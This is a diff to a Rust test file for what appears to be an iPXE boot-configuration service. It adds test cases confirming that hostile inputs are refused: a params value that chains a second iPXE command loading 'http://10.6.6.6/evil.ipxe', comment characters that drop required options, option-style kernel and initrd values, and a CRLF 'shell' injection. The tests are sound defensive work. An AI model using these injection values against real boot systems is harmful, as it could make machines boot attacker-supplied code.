@@ -243,6 +243,22 @@ async fn bad_and_unsafe_input_is_refused_and_nothing_is_written() {
             "params",
         ),
         (json!({"nids": [1], "kernel": "http://k extra=1"}), "kernel"),
+        // Found by hostile testing: `;` ran a second iPXE command and `#` dropped xname=, nid=,
+        // BOOTIF=, ds= and the retry; iPXE options and non-URLs in the kernel slot.
+        (
+            json!({"nids": [1], "kernel": "http://k", "params": "console=ttyS0 ; chain http://10.6.6.6/evil.ipxe #"}),
+            "params",
+        ),
+        (
+            json!({"nids": [1], "kernel": "http://k", "params": "quiet #"}),
+            "params",
+        ),
+        (json!({"nids": [1], "kernel": "--name=evil"}), "kernel"),
+        (
+            json!({"nids": [1], "kernel": "http://k", "initrd": "-n"}),
+            "initrd",
+        ),
+        (json!({"nids": [1], "kernel": "vmlinuz"}), "kernel"),
         (
             json!({"nids": [1], "kernel": "http://k", "initrd": "http://i\r\nshell"}),
             "initrd",
